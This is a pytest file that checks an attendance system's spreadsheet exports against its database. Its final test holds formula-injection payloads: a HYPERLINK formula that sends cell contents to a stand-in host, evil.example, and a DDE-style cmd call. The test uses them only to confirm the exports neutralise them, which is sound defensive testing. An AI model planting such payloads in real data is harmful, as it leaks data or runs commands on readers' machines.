"""Exports read back with openpyxl and csv and checked cell by cell against the database."""

from __future__ import annotations

import csv
import json
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import select
from support.rosterdata import DAY, NOW, Site

from kiosk.cli import main
from store.db.models import Attendance, Employer, Employment, SignInAttempt, Worker
from store.errors import StoreError
from store.projects import resolve_project
from store.reasons import Reason
from store.roster.day import evacuation, load_roster
from store.roster.exports import (
    PRESENT_MARK,
    column_widths,
    evacuation_html,
    export_daily,
    export_monthly,
    export_refused,
)
from store.timeutil import as_utc, zone


def _text(c: Any) -> str:
    """An XLSX cell as the CSV writes it: a date cell in its own format (a day of the month, a date, a time)."""
    v = c.value
    if v is None:
        return ""
    if isinstance(v, datetime):
        assert c.is_date, c.coordinate
        fmt = {"d": "day", "yyyy-mm-dd": "%Y-%m-%d", "yyyy-mm-dd hh:mm:ss": "%Y-%m-%d %H:%M:%S"}[
            c.number_format
        ]
        return str(v.day) if fmt == "day" else v.strftime(fmt)
    return str(v)


def read(path: Path) -> list[list[Any]]:
    """Rows of an export as text (None and "" both become "", trailing empties dropped), whatever its
    format; date cells of an XLSX written as the CSV writes them."""
    if path.suffix == ".csv":
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
        with path.open(encoding="utf-8-sig", newline="") as f:
            rows = [list(r) for r in csv.reader(f)]
    else:
        ws = load_workbook(path).active
        assert ws is not None
        rows = [[_text(c) for c in row] for row in ws.iter_rows()]
        rows = [r for r in rows if any(r)]  # the blank line before the signatures
    return rows


def body(rows: list[list[Any]]) -> list[list[Any]]:
    """The data rows of a daily or refused export: after the title, the source line and the headers."""
    assert rows[1][0].startswith("数据来源："), rows[1]
    return rows[3:]


def db_month(site: Site, first: date, last: date) -> dict[str, set[int]]:
    """worker name -> days of the month present, straight from the attendance table."""
    with site.engine.connect() as c:
        rows = c.execute(
            select(Worker.name, Attendance.work_date)  # type: ignore[call-overload]
            .join(Worker, Worker.id == Attendance.worker_id)
            .where(
                Attendance.project_id == site.project_id,
                Attendance.work_date >= first,
                Attendance.work_date <= last,
            )
        ).all()
    out: dict[str, set[int]] = {}
    for name, d in rows:
        out.setdefault(name, set()).add(d.day)
    return out


def db_people(site: Site) -> dict[str, tuple[str, str, str, str]]:
    """name -> (masked ID, employer, team, trade) from the database."""
    with site.engine.connect() as c:
        rows = c.execute(
            select(Worker.name, Worker.id_number_masked, Employer.name, Employment.team, Employment.trade)  # type: ignore[call-overload]
            .join(Employment, Employment.worker_id == Worker.id)
            .join(Employer, Employer.id == Employment.employer_id)
            .where(Employment.project_id == site.project_id)
        ).all()
    return {r[0]: (r[1], r[2], r[3], r[4]) for r in rows}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
@pytest.mark.parametrize("month", [(2026, 10), (2026, 11)])
def test_monthly_cell_by_cell(site: Site, tmp_path: Path, fmt: str, month: tuple[int, int]) -> None:
    year, mon = month
    out = tmp_path / f"m.{fmt}"
    path, n = export_monthly(site.engine, site.project_id, year, mon, out, fmt)  # type: ignore[arg-type]
    rows = read(path)
    n_days = 31 if mon == 10 else 30
    assert (
        "考勤表" in rows[0][0] and "测试项目一号地块" in rows[0][0] and f"{year}年{mon:02d}月" in rows[0][0]
    )
    assert rows[1][0].startswith("数据来源：办公室数据库 ") and "读取于 " in rows[1][0]
    header, weekdays = rows[2], rows[3]
    assert header[:6] == ["序号", "姓名", "身份证号", "用人单位", "班组", "工种"]
    assert header[6 : 6 + n_days] == [str(d) for d in range(1, n_days + 1)]
    assert header[6 + n_days :] == [
        "出勤天数",
        "工时合计",
        "未签退天数",
        "自动签退天数",
        "补录天数",
        "签字确认",
    ]
    # the weekday under each date: 2026-11-01 is a Sunday, 2026-10-01 a Thursday
    assert weekdays[6:8] == (["日", "一"] if mon == 11 else ["四", "五"])
    # nobody here signed out: a day present shows √未退 (no hours guessed)
    open_day = PRESENT_MARK + "未退"
    people = db_people(site)
    present = db_month(site, date(year, mon, 1), date(year, mon, n_days))
    came = [r for r in rows[4:] if r[0].isdigit() and r[1] in present]
    totals = rows[4 + len(came) : 6 + len(came)]
    heading = rows[6 + len(came)]
    zero = rows[7 + len(came) : 7 + len(came) + len(people) - len(present)]
    # those who came first, then the zero-day workers in their own section; every employed worker is there
    assert sorted(r[1] for r in came) == sorted(present)
    assert heading[0] == f"本月无出勤（{len(people) - len(present)} 人）"
    assert sorted(r[1] for r in came + zero) == sorted(people) and n == len(people)
    for i, r in enumerate(came + zero, 1):
        name = r[1]
        assert r[0] == str(i)
        assert (r[2], r[3], r[4], r[5]) == people[name]
        days = present.get(name, set())
        for d in range(1, n_days + 1):
            assert r[5 + d] == (open_day if d in days else ""), (name, d)
        assert r[6 + n_days] == str(len(days))
        assert r[7 + n_days : 11 + n_days] == ["0", str(len(days)), "0", "0"]
    # the day's headcount under each date, the man-days in all
    per_day = [sum(1 for days in present.values() if d in days) for d in range(1, n_days + 1)]
    assert totals[0][0] == "每日人数" and totals[0][6 : 6 + n_days] == [str(x) for x in per_day]
    man_days = sum(per_day)
    assert totals[0][6 + n_days] == str(man_days) and totals[1][0] == f"合计工日 {man_days}"
    assert f"合计 {man_days} 工日" in rows[0][0]
    assert "班组长" in rows[-1][0] and "劳务单位负责人" in rows[-1][0]
    # the month boundary in Asia/Shanghai: 10-31 15:30 UTC is October 31st, 23:30 UTC is November 1st
    z = next(r for r in came if r[1] == "张建国")
    if mon == 10:
        assert z[5 + 31] == open_day and z[6 + n_days] == "1"
    else:
        assert z[5 + 1] == open_day and z[5 + 2] == open_day and z[6 + n_days] == "2"
    nobody = next(r for r in zero if r[1] == "刘德华")
    assert nobody[6 : 6 + n_days] == [""] * n_days and nobody[6 + n_days] == "0"


def test_monthly_xlsx_layout(site: Site, tmp_path: Path) -> None:
    path, _ = export_monthly(site.engine, site.project_id, 2026, 11, tmp_path / "m.xlsx", "xlsx")
    ws = load_workbook(path).active
    assert ws is not None
    assert ws.freeze_panes == "D5"  # title, source, dates and weekdays, and No./name/ID columns
    assert ws["A1"].font.b and ws["B3"].font.b
    # the dates and weekdays repeat on every printed page; the title is the page header, once a page
    assert ws.print_title_rows == "$3:$4"
    assert "考勤表" in ws.oddHeader.center.text and "数据来源" in ws.oddHeader.left.text
    assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9  # A4
    # a date is a real date cell; weekends are shaded, every cell of the table has its borders
    first_day = ws["G3"]
    assert first_day.is_date and first_day.value == datetime(2026, 11, 1) and first_day.number_format == "d"
    assert ws["G4"].value == "日" and ws["G4"].fill.fgColor.rgb.endswith("D9D9D9")  # Sunday the 1st
    assert ws["H5"].fill.fgColor.rgb in ("00000000", None) or ws["H5"].fill.fill_type is None  # Monday
    for cell in ("A3", "G5", "H5", "AK5"):
        assert ws[cell].border.left.style == "thin" and ws[cell].border.bottom.style == "thin", cell
    # widths fit: the employer column is at least as wide as its widest (double-width) name
    assert ws.column_dimensions["D"].width >= 2 * len("上海甲建筑劳务有限公司")
    assert ws.column_dimensions["B"].width >= 6


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_daily_cell_by_cell(site: Site, tmp_path: Path, fmt: str) -> None:
    path, n = export_daily(site.engine, site.project_id, DAY, tmp_path / f"d.{fmt}", fmt)  # type: ignore[arg-type]
    rows = read(path)
    assert "测试项目一号地块" in rows[0][0] and DAY.isoformat() in rows[0][0]
    assert rows[2][:3] == ["用人单位", "班组", "姓名"]
    data = {r[2]: r for r in body(rows)}
    assert n == len(data) == 7
    with site.engine.connect() as c:
        att = {
            r[0]: (r[1], r[2])
            for r in c.execute(
                select(Worker.name, Attendance.first_at, Attendance.way)  # type: ignore[call-overload]
                .join(Worker, Worker.id == Attendance.worker_id)
                .where(Attendance.project_id == site.project_id, Attendance.work_date == DAY)
            )
        }
    people = db_people(site)
    for name, r in data.items():
        masked, employer, team, trade = people[name]
        assert (r[0], r[1], r[3], r[4]) == (employer, team, masked, trade)
        if name in att:
            first_at, way = att[name]
            assert r[5] == "已签到"
            assert r[6] == as_utc(first_at).astimezone(zone("Asia/Shanghai")).strftime("%Y-%m-%d %H:%M:%S")
            assert r[7] == {"A": "手机扫码", "B": "扫码"}[way]
            assert r[8] == ("手机" if way == "A" else "1号门")
        else:
            assert r[6] == r[7] == r[8] == ""
    assert data["张建国"][6] == "2026-11-02 07:02:00"
    assert data["刘德华"][5] == "未签到"
    assert data["孙未确"][5] == "被拒" and data["孙未确"][9] == "1"
    assert data["孙未确"][10] == Reason.EMPLOYMENT_NOT_CONFIRMED.zh


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_refused_cell_by_cell(site: Site, tmp_path: Path, fmt: str) -> None:
    project = resolve_project(site.engine, str(site.project_id))
    path, n = export_refused(
        site.engine, project, date(2026, 11, 1), date(2026, 11, 30), tmp_path / f"r.{fmt}", fmt
    )  # type: ignore[arg-type]
    rows = read(path)
    assert rows[2] == [
        "时间",
        "工作日",
        "姓名",
        "身份证号",
        "用人单位",
        "班组",
        "签到方式",
        "签到设备",
        "原因代码",
        "原因",
    ]
    with site.engine.connect() as c:
        db = c.execute(
            select(SignInAttempt.at, SignInAttempt.reason)  # type: ignore[call-overload]
            .where(SignInAttempt.project_id == site.project_id, SignInAttempt.outcome == "refused")
            .order_by(SignInAttempt.at)
        ).all()
    assert n == len(db) == len(body(rows)) == 2
    for r, (at, reason) in zip(body(rows), db, strict=True):
        assert r[0] == as_utc(at).astimezone(zone("Asia/Shanghai")).strftime("%Y-%m-%d %H:%M:%S")
        assert r[8] == reason and r[9] == Reason(reason).zh
    assert rows[3][2] == "孙未确" and rows[3][5] == "泥工班组" and rows[3][7] == "1号门"
    assert rows[4][2] == "（未知）" and rows[4][8] == "CODE_EXPIRED"


def test_english_headers(site: Site, tmp_path: Path) -> None:
    path, _ = export_monthly(site.engine, site.project_id, 2026, 11, tmp_path / "m.csv", "csv", "en")
    rows = read(path)
    assert rows[1][0].startswith("source: the office database ")
    assert rows[2][:3] == ["No.", "Name", "ID number"] and rows[2][-6:] == [
        "Days present",
        "Hours",
        "Days not signed out",
        "Days auto signed out",
        "Days corrected",
        "Signature",
    ]
    assert rows[3][6] == "Su"


def test_evacuation_html(site: Site) -> None:
    ev = evacuation(load_roster(site.engine, site.project_id, DAY))
    page = evacuation_html(ev, now=NOW)
    assert "疏散名单" in page and "在场合计：3" in page and "2026-11-02 09:15" in page
    assert page.count("<tr>") == 3 + 2  # three people, two header rows (two groups)
    assert "刘德华" not in page and "孙未确" not in page
    assert "上海甲建筑劳务有限公司 / 钢筋班组（2）" in page
    with site.engine.connect() as c:
        full = c.execute(select(Worker.id_number)).scalars().all()  # type: ignore[call-overload]
    assert not any(number in page for number in full)


def test_bad_output_loses_nothing(site: Site, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    good = folder / "m.xlsx"
    export_monthly(site.engine, site.project_id, 2026, 11, good, "xlsx")
    before = good.read_bytes()
    with pytest.raises(StoreError):
        export_monthly(site.engine, site.project_id, 2026, 11, tmp_path / "missing" / "m.xlsx", "xlsx")
    assert good.read_bytes() == before
    export_monthly(site.engine, site.project_id, 2026, 11, good, "csv")  # overwrite in place
    assert [p.name for p in folder.iterdir()] == ["m.xlsx"]  # no temporary file left behind


def test_column_widths_count_cjk_double() -> None:
    assert column_widths(["姓名", "x"], [["张建国", 12345], ["", None]]) == [8, 7]


def test_cli_exports(site: Site, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    url = str(site.engine.url.render_as_string(hide_password=False))
    pid = str(site.project_id)
    out = tmp_path / "month.xlsx"
    assert (
        main(
            [
                "export",
                "monthly",
                "--db",
                url,
                "--project",
                pid,
                "--month",
                "2026-11",
                "--format",
                "xlsx",
                "--out",
                str(out),
            ]
        )
        == 0
    )
    report = json.loads(capsys.readouterr().out.strip().splitlines()[-1])
    assert report["rows"] == 7 and report["month"] == "2026-11" and out.exists()
    # Each export command spelled out in full, as a site types it (the next ones differ in a value or two).
    assert (
        main(
            [
                "export",
                "daily",
                "--db",
                url,
                "--project",
                pid,
                "--date",
                "2026-11-02",
                "--out",
                str(tmp_path / "d.csv"),
            ]
        )
        == 0
    )
    assert json.loads(capsys.readouterr().out)["format"] == "csv"
    assert (
        main(
            [
                "export",
                "refused",
                "--db",
                url,
                "--project",
                pid,
                "--from",
                "2026-11-01",
                "--to",
                "2026-11-30",
                "--format",
                "csv",
                "--out",
                str(tmp_path / "r.csv"),
            ]
        )
        == 0
    )
    assert json.loads(capsys.readouterr().out)["rows"] == 2
    # bad input: a clear error in both languages, exit 2, no traceback
    assert (
        main(
            [
                "export",
                "monthly",
                "--db",
                url,
                "--project",
                pid,
                "--month",
                "2026-13",
                "--out",
                str(tmp_path / "x.xlsx"),
            ]
        )
        == 2
    )
    err = capsys.readouterr().err
    assert "YYYY-MM" in err and "月份" in err and "Traceback" not in err
    assert (
        main(
            [
                "export",
                "daily",
                "--db",
                url,
                "--project",
                pid,
                "--date",
                "2026-11-02",
                "--out",
                str(tmp_path / "x.pdf"),
            ]
        )
        == 2
    )
    assert (
        main(
            [
                "export",
                "refused",
                "--db",
                url,
                "--project",
                pid,
                "--from",
                "2026-11-30",
                "--to",
                "2026-11-01",
                "--out",
                str(tmp_path / "r.csv"),
            ]
        )
        == 2
    )
    assert (
        main(["export", "daily", "--db", url, "--date", "2026-11-02", "--out", str(tmp_path / "y.csv")]) == 2
    )


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "team": "@SUM(1+1)*cmd|' /C calc'!A0",
    "trade": "+1+1",
    "employer": "-2+3",
    "kiosk": "\t=1+1",
}


def _make_hostile(site: Site) -> None:
    """Values as an old import, a phone or another kiosk could have brought them (written straight to the
    database: the import and the enrollment forms refuse them now)."""
    from sqlalchemy import update

    from store.db.models import Kiosk

    with site.engine.begin() as c:
        c.execute(update(Worker).where(Worker.id == site.workers["孙未确"]).values(name=HOSTILE["name"]))
        c.execute(
            update(Employment)
            .where(Employment.worker_id == site.workers["孙未确"])
            .values(team=HOSTILE["team"], trade=HOSTILE["trade"])
        )
        c.execute(
            update(Employer).where(Employer.name == "上海乙机电安装有限公司").values(name=HOSTILE["employer"])
        )
        c.execute(update(Kiosk).where(Kiosk.id == site.kiosk_id).values(name=HOSTILE["kiosk"]))


@pytest.mark.parametrize("kind", ["daily", "monthly", "refused"])
@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_exports_never_carry_a_formula(site: Site, tmp_path: Path, fmt: str, kind: str) -> None:
    """=HYPERLINK(...) and @SUM(...) names, teams, trades, employers and kiosk names: XLSX string cells
    with the quote prefix, CSV behind a leading apostrophe; nothing a spreadsheet would run."""
    _make_hostile(site)
    out = tmp_path / f"{kind}.{fmt}"
    if kind == "daily":
        export_daily(site.engine, site.project_id, DAY, out, fmt)  # type: ignore[arg-type]
    elif kind == "monthly":
        export_monthly(site.engine, site.project_id, 2026, 11, out, fmt)  # type: ignore[arg-type]
    else:
        project = resolve_project(site.engine, str(site.project_id))
        export_refused(site.engine, project, date(2026, 11, 1), date(2026, 11, 30), out, fmt)  # type: ignore[arg-type]
    seen: set[str] = set()
    if fmt == "xlsx":
        ws = load_workbook(out).active
        assert ws is not None
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (c.coordinate, c.value)
                if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t")):
                    assert c.data_type == "s" and c.quotePrefix, c.coordinate
                    seen.add(c.value)
    else:
        for row in read(out):
            for v in row:
                assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), v
                if v.startswith("'"):
                    seen.add(v[1:])
    expected = {HOSTILE["name"], HOSTILE["team"], HOSTILE["trade"], HOSTILE["employer"]}
    if kind == "daily":
        expected.add(HOSTILE["kiosk"])
    if kind == "refused":
        expected = {HOSTILE["name"], HOSTILE["team"], HOSTILE["employer"], HOSTILE["kiosk"]}
    assert expected <= seen, expected - seen
